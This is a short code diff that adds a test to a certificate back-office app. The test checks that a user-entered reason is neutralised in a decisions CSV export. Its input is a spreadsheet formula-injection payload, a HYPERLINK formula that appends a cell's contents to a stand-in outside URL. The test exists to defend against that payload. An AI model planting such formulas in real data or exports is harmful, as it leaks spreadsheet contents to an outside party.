@@ -82,3 +82,17 @@ def test_an_inspector_does_not_read_the_register(
 ) -> None:
     assert sign_in(inspector).get(reverse("backoffice:decisions")).status_code == 403
     assert sign_in(inspector).get(reverse("backoffice:decisions-csv")).status_code == 403
+
+
+def test_what_a_holder_typed_never_runs_as_a_formula_in_the_csv(
+    sign_in: SignIn, auditor: User, certified: Certificate, holder_member: User
+) -> None:
+    certification.renounce_certificate(
+        certified, by=holder_member, reason='=HYPERLINK("https://x.example/?"&A1;"here")'
+    )
+    download = sign_in(auditor).get(
+        reverse("backoffice:decisions-csv"), {"start": "2026-01-01", "end": "2026-12-31"}
+    )
+    text = b"".join(download.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
+    renounced = list(csv.reader(io.StringIO(text)))[-1]
+    assert renounced[11] == '\'=HYPERLINK("https://x.example/?"&A1;"here")'
